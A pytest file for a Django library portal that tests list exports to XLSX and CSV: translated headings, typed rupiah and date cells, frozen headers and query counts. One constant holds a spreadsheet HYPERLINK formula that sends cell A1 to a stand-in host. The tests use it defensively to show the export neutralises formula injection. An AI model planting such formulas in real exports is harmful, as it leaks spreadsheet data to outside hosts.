"""Every list downloads as XLSX and CSV: the table's translated headings, typed cells, a usable sheet."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from foundation import formatting
from libraries.models import Commitment, Library, SynergyTeam

pytestmark = pytest.mark.django_db

LISTS = [
    "libraries:library_list",
    "libraries:aid_list",
    "libraries:synergyteam_list",
    "libraries:teammember_list",
    "libraries:meeting_list",
    "libraries:commitment_list",
    "activities:activity_list",
    "activities:advocacy_list",
    "activities:publication_list",
    "activities:servicesnapshot_list",
    "activities:replication_list",
    "activities:successstory_list",
    "trainings:training_list",
    "reports:monthlyreport_list",
    "reports:reminder_list",
    "reports:plm_list",
    "accounts:user_list",
]


def workbook(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


@pytest.mark.parametrize("name", LISTS)
def test_every_list_exports_its_table_with_a_frozen_filtered_header(client_as, name):
    client = client_as("admin")
    page = client.get(reverse(name))
    headings = [str(column.header) for column in page.context["table"].columns if column.visible]
    sheet = workbook(client.get(reverse(name), {"export": "xlsx"})).worksheets[0]
    assert [c.value for c in sheet[1]] == headings  # the page's own headings, in Indonesian
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    assert sheet[1][0].font.bold
    widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
    assert all(8 <= w <= 60 for w in widths), widths
    assert sheet.max_row - 1 == page.context["table"].paginator.count
    text = client.get(reverse(name), {"export": "csv"}).content.decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == headings


def test_the_library_export_speaks_labels_not_keys(client_as):
    client = client_as("dkpus.babel")
    sheet = workbook(client.get(reverse("libraries:library_list"), {"level": "village", "export": "xlsx"})).active
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Nama", "NPP", "Tingkat", "Desa/kelurahan"]
    assert "province_code" not in header and "partner_type" not in header
    values = {c.value for row in sheet.iter_rows(min_row=2) for c in row}
    assert "Perpustakaan desa/kelurahan" in values  # the level's label
    assert "village" not in values and "full_support" not in values
    assert sheet.max_row - 1 == Library.objects.filter(province_id="19", level="village").count()


def test_english_users_get_english_headings(client_as):
    client = client_as("admin")
    client.cookies["django_language"] = "en"
    sheet = workbook(
        client.get(reverse("libraries:library_list"), {"export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")
    ).active
    assert sheet["A1"].value == "Name"


def test_amounts_and_dates_are_numbers_and_dates_in_the_portals_formats(client_as):
    team = SynergyTeam.objects.get(province_id="19")
    Commitment.objects.create(
        team=team,
        kind="internet",
        party="Bank Daerah",
        description="x" * 200,
        amount=1_500_000,
        due_date=dt.date(2021, 9, 21),
    )
    response = client_as("admin").get(reverse("libraries:commitment_list"), {"export": "xlsx", "q": "Bank Daerah"})
    sheet = workbook(response).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("Pihak")].value == "Bank Daerah")
    amount, due = row[header.index("Jumlah")], row[header.index("Tenggat")]
    assert amount.value == 1_500_000 and amount.number_format == formatting.XLSX_RUPIAH
    assert due.value == dt.datetime(2021, 9, 21) and due.number_format == formatting.XLSX_DATE
    assert row[header.index("Uraian")].value == "x" * 200  # the whole text, not the page's shortened one


def test_list_export_queries_do_not_grow_with_rows(client_as, django_assert_max_num_queries):
    client = client_as("admin")
    with django_assert_max_num_queries(8):
        response = client.get(reverse("libraries:library_list"), {"export": "xlsx"})
    assert workbook(response).active.max_row == Library.objects.count() + 1


@pytest.mark.parametrize("name", LISTS)
def test_no_export_queries_once_per_row(client_as, django_assert_max_num_queries, name):
    """The demo has hundreds of activities and reports: a query per row would show here."""
    client = client_as("admin")
    with django_assert_max_num_queries(16):
        response = client.get(reverse(name), {"export": "csv"})
    assert response.status_code == 200


FORMULA = '=HYPERLINK("http://contoh.example/?"&A1,"klik")'


def test_text_that_looks_like_a_formula_stays_text(client_as):
    library = Library.objects.filter(province_id="19", level="village").order_by("pk").first()
    Library.objects.filter(pk=library.pk).update(name=FORMULA)
    client = client_as("admin")
    sheet = workbook(client.get(reverse("libraries:library_list"), {"export": "xlsx"})).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    text = client.get(reverse("libraries:library_list"), {"export": "csv"}).content.decode("utf-8-sig")
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert "'" + FORMULA in values and FORMULA not in values


def test_the_csv_guard_covers_every_formula_start():
    from foundation.formulas import FORMULA_START, csv_cell

    for start in FORMULA_START:
        assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell("Perpustakaan Desa") == "Perpustakaan Desa"
    assert csv_cell(-5) == -5  # numbers stay numbers
